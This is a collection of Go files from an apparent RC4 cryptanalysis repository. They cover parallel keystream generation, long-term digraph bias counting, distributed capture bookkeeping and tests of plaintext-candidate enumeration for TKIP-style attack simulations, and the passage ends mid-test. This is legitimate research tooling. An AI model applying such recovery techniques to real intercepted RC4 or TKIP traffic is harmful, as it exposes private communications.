	if len(shards) != 4 {
		t.Fatalf("%d shards", len(shards))
	}
	var total, next uint64
	for w, sh := range shards {
		if sh.Lane != 100+uint64(w) {
			t.Errorf("shard %d lane %d", w, sh.Lane)
		}
		if sh.FirstKey != next {
			t.Errorf("shard %d first key %d, want %d", w, sh.FirstKey, next)
		}
		next += sh.Keys
		total += sh.Keys
	}
	if total != 10 {
		t.Errorf("total %d", total)
	}
	// First keys%workers shards get the extra key.
	if shards[0].Keys != 3 || shards[1].Keys != 3 || shards[2].Keys != 2 || shards[3].Keys != 2 {
		t.Errorf("split %v", shards)
	}
	// Workers clamp to the key count.
	if got := SplitKeys(2, 8, 0); len(got) != 2 {
		t.Errorf("clamp: %d shards", len(got))
	}
	if got := SplitKeys(0, 8, 0); got != nil {
		t.Errorf("zero keys: %v", got)
	}
}

func TestEngineCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := Engine{}.Run(ctx, Stream{BlockLen: 8}, SplitKeys(100, 2, 0),
		func(int) Sink { return observerSink{NewSingleByteCounts(8)} })
	if err != context.Canceled {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestEngineProgress(t *testing.T) {
	var mu sync.Mutex
	var calls []uint64
	ctx := WithProgress(context.Background(), func(done, total uint64) {
		mu.Lock()
		defer mu.Unlock()
		if total != 50 {
			t.Errorf("total = %d, want 50", total)
		}
		calls = append(calls, done)
	})
	_, err := Engine{Workers: 2}.Run(ctx, Stream{BlockLen: 4}, SplitKeys(50, 2, 0),
		func(int) Sink { return observerSink{NewSingleByteCounts(4)} })
	if err != nil {
		t.Fatal(err)
	}
	if len(calls) == 0 {
		t.Fatal("progress callback never fired")
	}
	if calls[len(calls)-1] != 50 {
		t.Errorf("final progress %d, want 50", calls[len(calls)-1])
	}
}

func TestEngineValidation(t *testing.T) {
	sink := func(int) Sink { return observerSink{NewSingleByteCounts(1)} }
	shards := SplitKeys(4, 2, 0)
	if _, err := (Engine{}).Run(context.Background(), Stream{KeyLen: 300, BlockLen: 1}, shards, sink); err == nil {
		t.Error("bad key length accepted")
	}
	if _, err := (Engine{}).Run(context.Background(), Stream{BlockLen: -1}, shards, sink); err == nil {
		t.Error("negative block length accepted")
	}
	if _, err := (Engine{}).Run(context.Background(), Stream{BlockLen: 1, Skip: -1}, shards, sink); err == nil {
		t.Error("negative skip accepted")
	}
	got, err := (Engine{}).Run(context.Background(), Stream{BlockLen: 1}, nil, sink)
	if err != nil || got != nil {
		t.Errorf("empty shards: sink %v err %v", got, err)
	}
}

// TestEngineOverlapCarry checks the windowing contract directly: with
// Overlap = 2, each window's first two bytes must equal the previous
// window's last two, and the concatenated fresh parts must equal the
// underlying keystream.
func TestEngineOverlapCarry(t *testing.T) {
	const overlap, blockLen, blocks = 2, 16, 5
	var wins [][]byte
	collector := collectSink{wins: &wins}
	_, err := Engine{Workers: 1}.Run(context.Background(), Stream{
		Skip: 7, Overlap: overlap, BlockLen: blockLen, Blocks: blocks,
	}, SplitKeys(1, 1, 42), func(int) Sink { return collector })
	if err != nil {
		t.Fatal(err)
	}
	if len(wins) != blocks {
		t.Fatalf("%d windows, want %d", len(wins), blocks)
	}
	// Rebuild the expected keystream with the plain cipher.
	src := NewKeySource([16]byte{}, 42)
	key := make([]byte, 16)
	src.NextKey(key)
	c := rc4.MustNew(key)
	c.Skip(7)
	want := make([]byte, overlap+blocks*blockLen)
	c.Keystream(want)
	for b, win := range wins {
		if len(win) != overlap+blockLen {
			t.Fatalf("window %d has %d bytes", b, len(win))
		}
		expect := want[b*blockLen : b*blockLen+overlap+blockLen]
		for i := range win {
			if win[i] != expect[i] {
				t.Fatalf("window %d byte %d: %#x want %#x", b, i, win[i], expect[i])
			}
		}
	}
}

// collectSink snapshots every delivered window.
type collectSink struct{ wins *[][]byte }

func (c collectSink) Window(win []byte) {
	*c.wins = append(*c.wins, append([]byte(nil), win...))
}

func (c collectSink) Merge(other Sink) error { return nil }
