package dataset

import (
	"errors"
	"fmt"
	"sync"
	"time"
)

// LaneLedger tracks the lease state of a fixed set of disjoint work lanes —
// the bookkeeping behind distributed capture. A lane is the fleet-level
// sibling of Config.LaneOffset's key lanes: just as two generation runs with
// different lane offsets draw disjoint key sequences, two capture workers
// holding different ledger lanes observe disjoint slices of the evidence
// stream, so no observation can ever be counted twice. The ledger hands out
// the lowest available lane (deterministic assignment), expires leases whose
// workers went silent so the lane can be re-captured elsewhere, and marks
// lanes done when their evidence has been accepted.
//
// The ledger is safe for concurrent use; it never calls out while holding
// its lock.
type LaneLedger struct {
	mu    sync.Mutex
	lanes []laneEntry
}

// LaneState enumerates a lane's lifecycle: available (capturable), leased
// (one worker is capturing it), done (its evidence is merged).
type LaneState uint8

const (
	LaneAvailable LaneState = iota
	LaneLeased
	LaneDone
)

type laneEntry struct {
	state   LaneState
	owner   string
	expires time.Time
}

// NewLaneLedger creates a ledger of n lanes, all available.
func NewLaneLedger(n uint64) *LaneLedger {
	return &LaneLedger{lanes: make([]laneEntry, n)}
}

// Lanes reports the total lane count.
func (l *LaneLedger) Lanes() uint64 { return uint64(len(l.lanes)) }

// Lease grants the lowest available lane to owner until now+ttl. The second
// return is false when no lane is currently available (all leased or done) —
// the caller should retry after a lease could have expired, not give up: an
// expired lease returns its lane to the pool via Reclaim.
func (l *LaneLedger) Lease(owner string, now time.Time, ttl time.Duration) (uint64, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for i := range l.lanes {
		if l.lanes[i].state == LaneAvailable {
			l.lanes[i] = laneEntry{state: LaneLeased, owner: owner, expires: now.Add(ttl)}
			return uint64(i), true
		}
	}
	return 0, false
}

// Reclaim returns every leased lane whose lease expired at or before now to
// the available pool and reports the reclaimed lanes. Call it before Lease:
// a worker that died mid-capture holds its lane only until the TTL runs out.
func (l *LaneLedger) Reclaim(now time.Time) []uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	var reclaimed []uint64
	for i := range l.lanes {
		if l.lanes[i].state == LaneLeased && !l.lanes[i].expires.After(now) {
			l.lanes[i] = laneEntry{}
			reclaimed = append(reclaimed, uint64(i))
		}
	}
	return reclaimed
}

// Complete marks a lane done, regardless of current owner: lane evidence is
// deterministic per lane, so whichever worker's upload was accepted first
// completes the lane (a re-leased lane's late first owner is rejected at the
// evidence layer as a duplicate, not here). Completing a done lane is an
// error — the caller's duplicate detection should have fired first.
func (l *LaneLedger) Complete(lane uint64) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if lane >= uint64(len(l.lanes)) {
		return fmt.Errorf("dataset: lane %d outside ledger of %d lanes", lane, len(l.lanes))
	}
	if l.lanes[lane].state == LaneDone {
		return errors.New("dataset: lane already complete")
	}
	l.lanes[lane] = laneEntry{state: LaneDone}
	return nil
}

// Release returns a leased lane to the pool early — the fleet's release
// RPC, sent by a worker whose collect loop failed, so the lane comes back
// immediately instead of timing out. Only the current owner can release;
// anyone else's release is ignored — their lease already expired or was
// reassigned.
func (l *LaneLedger) Release(lane uint64, owner string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if lane < uint64(len(l.lanes)) && l.lanes[lane].state == LaneLeased && l.lanes[lane].owner == owner {
		l.lanes[lane] = laneEntry{}
	}
}

// State reports one lane's current state.
func (l *LaneLedger) State(lane uint64) LaneState {
	l.mu.Lock()
	defer l.mu.Unlock()
	if lane >= uint64(len(l.lanes)) {
		return LaneAvailable
	}
	return l.lanes[lane].state
}

// Counts reports how many lanes are available, leased, and done.
func (l *LaneLedger) Counts() (available, leased, done uint64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for i := range l.lanes {
		switch l.lanes[i].state {
		case LaneLeased:
			leased++
		case LaneDone:
			done++
		default:
			available++
		}
	}
	return
}

// Done reports whether every lane is complete.
func (l *LaneLedger) Done() bool {
	_, _, done := l.Counts()
	return done == uint64(len(l.lanes))
}
