package dataset

import (
	"context"
	"errors"

	"rc4break/internal/rc4"
)

// Lane offsets keep the KeySource lane spaces of the different collectors
// disjoint, so no two datasets ever share an RC4 key sequence. The values
// match the pre-Engine hand-rolled loops, which keeps every dataset in this
// repository bitwise-reproducible across the refactor.
const (
	runLaneOffset      = 0
	longTermLaneOffset = 1000
	targetedLaneOffset = 2000
	// Offsets 3000-5000 are used by the experiments package's long-term
	// scans (eq. 8, ABSAB, eq. 9).
)

// Config controls a generation run.
type Config struct {
	// Keys is the total number of RC4 keys (keystreams) to generate.
	Keys uint64
	// KeyLen is the RC4 key length in bytes; 0 means 16 (the paper's
	// setting for both random-key datasets and TKIP per-packet keys).
	KeyLen int
	// Workers is the number of parallel workers; 0 means GOMAXPROCS.
	Workers int
	// Master is the AES-128 master key from which all RC4 keys derive.
	// The zero value is a valid (fixed) master, giving reproducible runs.
	Master [16]byte
	// Skip discards this many initial keystream bytes before Observe sees
	// the rest — the long-term datasets drop the first 1023 bytes (§3.4).
	Skip int
	// KeyDeriver, when non-nil, post-processes each derived key before use.
	// The TKIP per-packet key structure (K0..K2 from the TSC, §2.2) hooks
	// in here.
	KeyDeriver func(keyIndex uint64, key []byte)
	// Ctx, when non-nil, cancels the run early; pair with WithProgress to
	// observe long runs. nil means context.Background().
	Ctx context.Context
	// LaneOffset shifts the KeySource lane space of this run. Two runs with
	// the same master but disjoint lane offsets draw disjoint RC4 key
	// sequences, which is how independent capture shards and the chunks of
	// a checkpointed generation stay non-overlapping. 0 preserves the
	// repository's historical lane layout.
	LaneOffset uint64
}

func (c Config) withDefaults() Config {
	if c.KeyLen == 0 {
		c.KeyLen = 16
	}
	return c
}

// observerSink adapts the per-keystream Observer interface to the engine's
// window delivery: short-term observers consume each keystream prefix as a
// single window.
type observerSink struct{ obs Observer }

func (o observerSink) Window(win []byte) { o.obs.Observe(win) }

func (o observerSink) Merge(other Sink) error {
	so, ok := other.(observerSink)
	if !ok {
		return errIncompatibleSink
	}
	return o.obs.Merge(so.obs)
}

// Run generates cfg.Keys keystreams in parallel and folds them into
// observers produced by factory (one set per worker), returning the merged
// result. factory must return a fresh, independent Observer on each call.
func Run(cfg Config, factory func() Observer) (Observer, error) {
	cfg = cfg.withDefaults()
	if cfg.Keys == 0 {
		return nil, errors.New("dataset: zero keys requested")
	}
	if cfg.KeyLen < rc4.MinKeyLen || cfg.KeyLen > rc4.MaxKeyLen {
		return nil, rc4.KeySizeError(cfg.KeyLen)
	}
	shards := SplitKeys(cfg.Keys, cfg.Workers, runLaneOffset+cfg.LaneOffset)
	observers := make([]Observer, len(shards))
	for i := range observers {
		observers[i] = factory()
	}
	sink, err := Engine{Workers: cfg.Workers}.Run(cfg.Ctx, Stream{
		Master:     cfg.Master,
		KeyLen:     cfg.KeyLen,
		KeyDeriver: cfg.KeyDeriver,
		Skip:       cfg.Skip,
		BlockLen:   observers[0].KeystreamLen(),
	}, shards, func(i int) Sink { return observerSink{observers[i]} })
	if err != nil {
		return nil, err
	}
	return sink.(observerSink).obs, nil
}

// LongTermDigraphs estimates the long-term digraph distribution by i-value:
// cell (i, x, y) counts occurrences of (Z_r, Z_r+1) = (x, y) at PRGA counter
// i = r+1 mod 256, far from the start of the keystream. This is the dataset
// behind Table 1 verification and the eq. 8 long-term biases. It is an
// engine Sink that consumes long runs of a few keystreams (257-byte windows:
// one carry byte plus a 256-byte block) rather than short prefixes of many.
type LongTermDigraphs struct {
	Counts [256 * 65536]uint64 // [i][x*256+y]
	Pairs  uint64              // digraphs observed per i-class in total/256
}

// Window implements Sink. win[0] is the byte before the current 256-byte
// block (Z at PRGA counter 255 of the previous block), so digraph r within
// the block starts at counter i = r.
func (lt *LongTermDigraphs) Window(win []byte) {
	for r := 0; r < 256; r++ {
		lt.Counts[r*65536+int(win[r])*256+int(win[r+1])]++
	}
	lt.Pairs += 256
}

// Merge implements Sink.
func (lt *LongTermDigraphs) Merge(other Sink) error {
	o, ok := other.(*LongTermDigraphs)
	if !ok {
		return errIncompatibleSink
	}
	for i := range lt.Counts {
		lt.Counts[i] += o.Counts[i]
	}
	lt.Pairs += o.Pairs
	return nil
}

// longTermStream is the §3.4 long-term generation shape: drop 1023 bytes so
// the first delivered byte is Z_1024 (produced at PRGA counter i = 0), then
// 256-byte blocks with a one-byte carry for boundary-spanning digraphs.
func longTermStream(master [16]byte, blocks int) Stream {
	return Stream{Master: master, Skip: 1023, Overlap: 1, BlockLen: 256, Blocks: blocks}
}

// CollectLongTerm generates `keys` RC4 keystreams of `blocks` * 256 bytes
// each (after dropping the first 1023 bytes, §3.4) and counts digraphs by
// i-value in parallel. Zero (or negative) keys or blocks yield an empty
// result.
func CollectLongTerm(ctx context.Context, master [16]byte, keys, blocks, workers int) (*LongTermDigraphs, error) {
	if keys <= 0 || blocks <= 0 {
		return &LongTermDigraphs{}, nil
	}
	shards := SplitKeys(uint64(keys), workers, longTermLaneOffset)
	sink, err := Engine{Workers: workers}.Run(ctx, longTermStream(master, blocks), shards,
		func(int) Sink { return &LongTermDigraphs{} })
	if err != nil {
		return nil, err
	}
	return sink.(*LongTermDigraphs), nil
}

// Probability estimates Pr[(Z_r, Z_r+1) = (x, y) | i = r+1 mod 256].
// Each i-class receives Pairs/256 digraph observations.
func (lt *LongTermDigraphs) Probability(i int, x, y byte) float64 {
	perClass := float64(lt.Pairs) / 256
	if perClass == 0 {
		return 0
	}
	return float64(lt.Counts[i*65536+int(x)*256+int(y)]) / perClass
}

// Count returns the raw count for (i, x, y).
func (lt *LongTermDigraphs) Count(i int, x, y byte) uint64 {
	return lt.Counts[i*65536+int(x)*256+int(y)]
}

// LongTermCell is one targeted long-term digraph event: the digraph (X, Y)
// observed at PRGA counter i = I. Negative I means "any i" (the count is
// then over all 256 classes). XPlusI/YPlusI add the current i (mod 256) to
// the value before comparing, which expresses the i-dependent FM digraphs
// like (0, i+1) and (255, i+2) as fixed cells: (X=0, Y=1, YPlusI=true).
type LongTermCell struct {
	I              int
	X, Y           byte
	XPlusI, YPlusI bool
}

// TargetedLongTerm counts a small set of long-term digraph cells without
// materializing the full 256×65536 table. This is how Table 1 and eq. 8 are
// verified at the billions-of-digraphs scale their 2^-8-relative biases
// need: the counting loop touches only a handful of hot counters, so it is
// not cache-miss bound like the full table.
type TargetedLongTerm struct {
	Cells  []LongTermCell
	Counts []uint64
	Pairs  uint64 // total digraphs observed
	PerI   uint64 // digraphs observed per single i-class (Pairs/256)

	// Targeted-counting index, built lazily from Cells: for each PRGA
	// counter i, the cells resolved to concrete (x, y) values, plus a
	// 256-bit bitmap of the first bytes any cell at that i matches. Almost
	// every observed digraph misses the bitmap, so the hot loop does one
	// bit test per position instead of walking every cell.
	byI      [256][]resolvedCell
	mask     [256][4]uint64
	prepared bool
}

// resolvedCell is one cell with its i-dependent values fixed for a
// specific counter.
type resolvedCell struct {
	x, y byte
	ci   uint16
}

// prepare builds the per-i index. Cells must not change afterwards.
func (tt *TargetedLongTerm) prepare() {
	for i := 0; i < 256; i++ {
		for ci := range tt.Cells {
			cell := &tt.Cells[ci]
			if cell.I >= 0 && cell.I != i {
				continue
			}
			cx, cy := cell.X, cell.Y
			if cell.XPlusI {
				cx += byte(i)
			}
			if cell.YPlusI {
				cy += byte(i)
			}
			tt.byI[i] = append(tt.byI[i], resolvedCell{x: cx, y: cy, ci: uint16(ci)})
			tt.mask[i][cx>>6] |= 1 << (cx & 63)
		}
	}
	tt.prepared = true
}

// Window implements Sink; the window layout matches LongTermDigraphs. The
// walk is the targeted-counting bound: each position costs one bitmap test
// (8 KB of masks, cache-resident), and only the ~1% of positions whose
// first byte matches some cell's reach the short resolved-cell scan.
func (tt *TargetedLongTerm) Window(win []byte) {
	if !tt.prepared {
		tt.prepare()
	}
	for r := 0; r < 256; r++ {
		x := win[r]
		if tt.mask[r][x>>6]&(1<<(x&63)) == 0 {
			continue
		}
		y := win[r+1]
		for _, rc := range tt.byI[r] {
			if rc.x == x && rc.y == y {
				tt.Counts[rc.ci]++
			}
		}
	}
	tt.Pairs += 256
}

// Merge implements Sink.
func (tt *TargetedLongTerm) Merge(other Sink) error {
	o, ok := other.(*TargetedLongTerm)
	if !ok || len(o.Counts) != len(tt.Counts) {
		return errIncompatibleSink
	}
	for i := range tt.Counts {
		tt.Counts[i] += o.Counts[i]
	}
	tt.Pairs += o.Pairs
	return nil
}

// CollectLongTermTargeted generates `keys` keystreams of blocks*256 bytes
// each (after the 1023-byte drop) and counts only the given cells. Zero (or
// negative) keys or blocks yield an empty result.
func CollectLongTermTargeted(ctx context.Context, master [16]byte, keys, blocks, workers int, cells []LongTermCell) (*TargetedLongTerm, error) {
	newSink := func(int) Sink {
		return &TargetedLongTerm{Cells: cells, Counts: make([]uint64, len(cells))}
	}
	if keys <= 0 || blocks <= 0 {
		return newSink(0).(*TargetedLongTerm), nil
	}
	shards := SplitKeys(uint64(keys), workers, targetedLaneOffset)
	sink, err := Engine{Workers: workers}.Run(ctx, longTermStream(master, blocks), shards, newSink)
	if err != nil {
		return nil, err
	}
	tt := sink.(*TargetedLongTerm)
	tt.PerI = tt.Pairs / 256
	return tt, nil
}

// Probability estimates the probability of cell ci: conditioned on its
// i-class when the cell pins i, otherwise over all digraphs.
func (tt *TargetedLongTerm) Probability(ci int) float64 {
	cell := tt.Cells[ci]
	den := float64(tt.Pairs)
	if cell.I >= 0 {
		den = float64(tt.Pairs) / 256
	}
	if den == 0 {
		return 0
	}
	return float64(tt.Counts[ci]) / den
}
