package dataset

import (
	"errors"
	"runtime"
	"sync"

	"rc4break/internal/rc4"
)

// Config controls a generation run.
type Config struct {
	// Keys is the total number of RC4 keys (keystreams) to generate.
	Keys uint64
	// KeyLen is the RC4 key length in bytes; 0 means 16 (the paper's
	// setting for both random-key datasets and TKIP per-packet keys).
	KeyLen int
	// Workers is the number of parallel workers; 0 means GOMAXPROCS.
	Workers int
	// Master is the AES-128 master key from which all RC4 keys derive.
	// The zero value is a valid (fixed) master, giving reproducible runs.
	Master [16]byte
	// Skip discards this many initial keystream bytes before Observe sees
	// the rest — the long-term datasets drop the first 1023 bytes (§3.4).
	Skip int
	// KeyDeriver, when non-nil, post-processes each derived key before use.
	// The TKIP per-packet key structure (K0..K2 from the TSC, §2.2) hooks
	// in here.
	KeyDeriver func(keyIndex uint64, key []byte)
}

func (c Config) withDefaults() Config {
	if c.KeyLen == 0 {
		c.KeyLen = 16
	}
	if c.Workers <= 0 {
		c.Workers = runtime.GOMAXPROCS(0)
	}
	if c.Workers > int(c.Keys) && c.Keys > 0 {
		c.Workers = int(c.Keys)
	}
	return c
}

// Run generates cfg.Keys keystreams in parallel and folds them into
// observers produced by factory (one set per worker), returning the merged
// result. factory must return a fresh, independent Observer on each call.
func Run(cfg Config, factory func() Observer) (Observer, error) {
	cfg = cfg.withDefaults()
	if cfg.Keys == 0 {
		return nil, errors.New("dataset: zero keys requested")
	}
	if cfg.KeyLen < rc4.MinKeyLen || cfg.KeyLen > rc4.MaxKeyLen {
		return nil, rc4.KeySizeError(cfg.KeyLen)
	}

	results := make([]Observer, cfg.Workers)
	var wg sync.WaitGroup
	// Split keys across workers; worker w handles indices [start, start+n).
	per := cfg.Keys / uint64(cfg.Workers)
	extra := cfg.Keys % uint64(cfg.Workers)
	var start uint64
	for w := 0; w < cfg.Workers; w++ {
		n := per
		if uint64(w) < extra {
			n++
		}
		obs := factory()
		results[w] = obs
		wg.Add(1)
		go func(lane uint64, firstKey, n uint64, obs Observer) {
			defer wg.Done()
			worker(cfg, lane, firstKey, n, obs)
		}(uint64(w), start, n, obs)
		start += n
	}
	wg.Wait()

	merged := results[0]
	for _, r := range results[1:] {
		if err := merged.Merge(r); err != nil {
			return nil, err
		}
	}
	return merged, nil
}

// worker generates n keystreams starting at key index firstKey.
func worker(cfg Config, lane, firstKey, n uint64, obs Observer) {
	src := NewKeySource(cfg.Master, lane)
	key := make([]byte, cfg.KeyLen)
	need := obs.KeystreamLen()
	ks := make([]byte, need)
	for i := uint64(0); i < n; i++ {
		src.NextKey(key)
		if cfg.KeyDeriver != nil {
			cfg.KeyDeriver(firstKey+i, key)
		}
		c := rc4.MustNew(key)
		if cfg.Skip > 0 {
			c.Skip(cfg.Skip)
		}
		c.Keystream(ks)
		obs.Observe(ks)
	}
}

// LongTermDigraphs estimates the long-term digraph distribution by i-value:
// cell (i, x, y) counts occurrences of (Z_r, Z_r+1) = (x, y) at PRGA counter
// i = r+1 mod 256, far from the start of the keystream. This is the dataset
// behind Table 1 verification and the eq. 8 long-term biases. It is not an
// Observer: it consumes long runs of a few keystreams rather than short
// prefixes of many.
type LongTermDigraphs struct {
	Counts [256 * 65536]uint64 // [i][x*256+y]
	Pairs  uint64              // digraphs observed per i-class in total/256
}

// CollectLongTerm generates `keys` RC4 keystreams of `blocks` * 256 bytes
// each (after dropping the first 1023 bytes, §3.4) and counts digraphs by
// i-value in parallel.
func CollectLongTerm(master [16]byte, keys, blocks int, workers int) *LongTermDigraphs {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > keys {
		workers = keys
	}
	results := make([]*LongTermDigraphs, workers)
	var wg sync.WaitGroup
	per := keys / workers
	extra := keys % workers
	for w := 0; w < workers; w++ {
		n := per
		if w < extra {
			n++
		}
		lt := &LongTermDigraphs{}
		results[w] = lt
		wg.Add(1)
		go func(lane uint64, n int, lt *LongTermDigraphs) {
			defer wg.Done()
			src := NewKeySource(master, lane)
			key := make([]byte, 16)
			// Buffer holds one 256-byte block plus the byte before it so
			// digraphs spanning block boundaries are counted too.
			buf := make([]byte, 257)
			for k := 0; k < n; k++ {
				src.NextKey(key)
				c := rc4.MustNew(key)
				c.Skip(1023)
				// buf[0] = Z_1024, produced at PRGA counter i = 0; within
				// each block, digraph r starts at counter i = r.
				c.Keystream(buf[:1])
				for b := 0; b < blocks; b++ {
					c.Keystream(buf[1:])
					for r := 0; r < 256; r++ {
						lt.Counts[r*65536+int(buf[r])*256+int(buf[r+1])]++
					}
					lt.Pairs += 256
					buf[0] = buf[256]
				}
			}
		}(uint64(w)+1000, n, lt) // lanes offset so they differ from Run's
	}
	wg.Wait()
	merged := results[0]
	for _, r := range results[1:] {
		for i := range merged.Counts {
			merged.Counts[i] += r.Counts[i]
		}
		merged.Pairs += r.Pairs
	}
	return merged
}

// Probability estimates Pr[(Z_r, Z_r+1) = (x, y) | i = r+1 mod 256].
// Each i-class receives Pairs/256 digraph observations.
func (lt *LongTermDigraphs) Probability(i int, x, y byte) float64 {
	perClass := float64(lt.Pairs) / 256
	if perClass == 0 {
		return 0
	}
	return float64(lt.Counts[i*65536+int(x)*256+int(y)]) / perClass
}

// Count returns the raw count for (i, x, y).
func (lt *LongTermDigraphs) Count(i int, x, y byte) uint64 {
	return lt.Counts[i*65536+int(x)*256+int(y)]
}

// LongTermCell is one targeted long-term digraph event: the digraph (X, Y)
// observed at PRGA counter i = I. Negative I means "any i" (the count is
// then over all 256 classes). XPlusI/YPlusI add the current i (mod 256) to
// the value before comparing, which expresses the i-dependent FM digraphs
// like (0, i+1) and (255, i+2) as fixed cells: (X=0, Y=1, YPlusI=true).
type LongTermCell struct {
	I              int
	X, Y           byte
	XPlusI, YPlusI bool
}

// TargetedLongTerm counts a small set of long-term digraph cells without
// materializing the full 256×65536 table. This is how Table 1 and eq. 8 are
// verified at the billions-of-digraphs scale their 2^-8-relative biases
// need: the counting loop touches only a handful of hot counters, so it is
// not cache-miss bound like the full table.
type TargetedLongTerm struct {
	Cells  []LongTermCell
	Counts []uint64
	Pairs  uint64 // total digraphs observed
	PerI   uint64 // digraphs observed per single i-class (Pairs/256)
}

// CollectLongTermTargeted generates `keys` keystreams of blocks*256 bytes
// each (after the 1023-byte drop) and counts only the given cells.
func CollectLongTermTargeted(master [16]byte, keys, blocks, workers int, cells []LongTermCell) *TargetedLongTerm {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > keys {
		workers = keys
	}
	results := make([]*TargetedLongTerm, workers)
	var wg sync.WaitGroup
	per := keys / workers
	extra := keys % workers
	for w := 0; w < workers; w++ {
		n := per
		if w < extra {
			n++
		}
		tt := &TargetedLongTerm{Cells: cells, Counts: make([]uint64, len(cells))}
		results[w] = tt
		wg.Add(1)
		go func(lane uint64, n int, tt *TargetedLongTerm) {
			defer wg.Done()
			src := NewKeySource(master, lane)
			key := make([]byte, 16)
			buf := make([]byte, 257)
			for k := 0; k < n; k++ {
				src.NextKey(key)
				c := rc4.MustNew(key)
				c.Skip(1023)
				// buf[0] = Z_1024 at PRGA counter i = 0; digraph r within a
				// block starts at counter i = r.
				c.Keystream(buf[:1])
				for b := 0; b < blocks; b++ {
					c.Keystream(buf[1:])
					for r := 0; r < 256; r++ {
						x, y := buf[r], buf[r+1]
						for ci := range tt.Cells {
							cell := &tt.Cells[ci]
							if cell.I >= 0 && cell.I != r {
								continue
							}
							cx, cy := cell.X, cell.Y
							if cell.XPlusI {
								cx += byte(r)
							}
							if cell.YPlusI {
								cy += byte(r)
							}
							if x == cx && y == cy {
								tt.Counts[ci]++
							}
						}
					}
					tt.Pairs += 256
					buf[0] = buf[256]
				}
			}
		}(uint64(w)+2000, n, tt)
	}
	wg.Wait()
	merged := results[0]
	for _, r := range results[1:] {
		for i := range merged.Counts {
			merged.Counts[i] += r.Counts[i]
		}
		merged.Pairs += r.Pairs
	}
	merged.PerI = merged.Pairs / 256
	return merged
}

// Probability estimates the probability of cell ci: conditioned on its
// i-class when the cell pins i, otherwise over all digraphs.
func (tt *TargetedLongTerm) Probability(ci int) float64 {
	cell := tt.Cells[ci]
	den := float64(tt.Pairs)
	if cell.I >= 0 {
		den = float64(tt.Pairs) / 256
	}
	if den == 0 {
		return 0
	}
	return float64(tt.Counts[ci]) / den
}
