package dataset

import (
	"runtime"
	"sync"
)

// ForShards runs fn(0..n-1) over a pool of worker goroutines — the engine's
// shard/queue pattern extracted for consumers whose work is not keystream
// generation (the attack simulators fan their independent evidence shards
// out through it). Shards are handed to workers from a queue, so workers
// only bounds parallelism: as long as each fn(i) writes only shard-local
// state, results are identical for any worker count. workers <= 0 means
// GOMAXPROCS. The first error (in shard order) is returned; remaining
// queued shards still run so partial state stays consistent.
func ForShards(workers, n int, fn func(shard int) error) error {
	if n <= 0 {
		return nil
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > n {
		workers = n
	}
	errs := make([]error, n)
	if workers == 1 {
		for i := 0; i < n; i++ {
			errs[i] = fn(i)
		}
		return firstError(errs)
	}
	idx := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range idx {
				errs[i] = fn(i)
			}
		}()
	}
	for i := 0; i < n; i++ {
		idx <- i
	}
	close(idx)
	wg.Wait()
	return firstError(errs)
}

func firstError(errs []error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}
