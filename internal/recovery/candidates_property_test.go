package recovery

import (
	"math"
	"math/rand"
	"sort"
	"testing"
)

// TestEnumeratorMatchesExhaustiveSort cross-validates the lazy Algorithm-1
// enumerator against brute force: for random likelihood tables over a small
// value alphabet, the first K candidates must be exactly the K best scores
// of the exhaustive enumeration.
func TestEnumeratorMatchesExhaustiveSort(t *testing.T) {
	rng := rand.New(rand.NewSource(77))
	for trial := 0; trial < 20; trial++ {
		L := 2 + rng.Intn(3) // 2..4 positions
		alphabet := 4 + rng.Intn(4)
		lks := make([]*ByteLikelihoods, L)
		for r := range lks {
			var l ByteLikelihoods
			for v := range l {
				l[v] = math.Inf(-1)
			}
			for v := 0; v < alphabet; v++ {
				l[v] = rng.NormFloat64()
			}
			lks[r] = &l
		}
		// Exhaustive scores.
		var all []float64
		var walk func(r int, score float64)
		walk = func(r int, score float64) {
			if r == L {
				all = append(all, score)
				return
			}
			for v := 0; v < alphabet; v++ {
				walk(r+1, score+lks[r][v])
			}
		}
		walk(0, 0)
		sort.Sort(sort.Reverse(sort.Float64Slice(all)))

		K := 10 + rng.Intn(20)
		if K > len(all) {
			K = len(all)
		}
		cands, err := SingleByteCandidates(lks, K)
		if err != nil {
			t.Fatal(err)
		}
		if len(cands) != K {
			t.Fatalf("trial %d: got %d candidates, want %d", trial, len(cands), K)
		}
		for i := 0; i < K; i++ {
			if math.Abs(cands[i].Score-all[i]) > 1e-9 {
				t.Fatalf("trial %d rank %d: score %v, exhaustive %v", trial, i, cands[i].Score, all[i])
			}
		}
	}
}

// TestDoubleByteMatchesExhaustiveRandom repeats the cross-validation for
// Algorithm 2 on random chains and charsets.
func TestDoubleByteMatchesExhaustiveRandom(t *testing.T) {
	rng := rand.New(rand.NewSource(88))
	for trial := 0; trial < 10; trial++ {
		L := 4 + rng.Intn(2) // total length 4..5
		charset := []byte{'a', 'b', 'c', 'd', 'e'}[:3+rng.Intn(3)]
		lks := make([]*PairLikelihoods, L-1)
		for i := range lks {
			lks[i] = new(PairLikelihoods)
			for j := range lks[i] {
				lks[i][j] = rng.NormFloat64()
			}
		}
		m1, mL := charset[0], charset[len(charset)-1]

		var all []float64
		interior := L - 2
		idx := make([]int, interior)
		for {
			pt := make([]byte, L)
			pt[0] = m1
			pt[L-1] = mL
			for i, ci := range idx {
				pt[i+1] = charset[ci]
			}
			all = append(all, ScoreSequence(lks, pt))
			// Odometer.
			k := 0
			for ; k < interior; k++ {
				idx[k]++
				if idx[k] < len(charset) {
					break
				}
				idx[k] = 0
			}
			if k == interior {
				break
			}
		}
		sort.Sort(sort.Reverse(sort.Float64Slice(all)))

		K := 5 + rng.Intn(15)
		if K > len(all) {
			K = len(all)
		}
		cands, err := DoubleByteCandidates(lks, m1, mL, K, charset)
		if err != nil {
			t.Fatal(err)
		}
		if len(cands) != K {
			t.Fatalf("trial %d: %d candidates, want %d", trial, len(cands), K)
		}
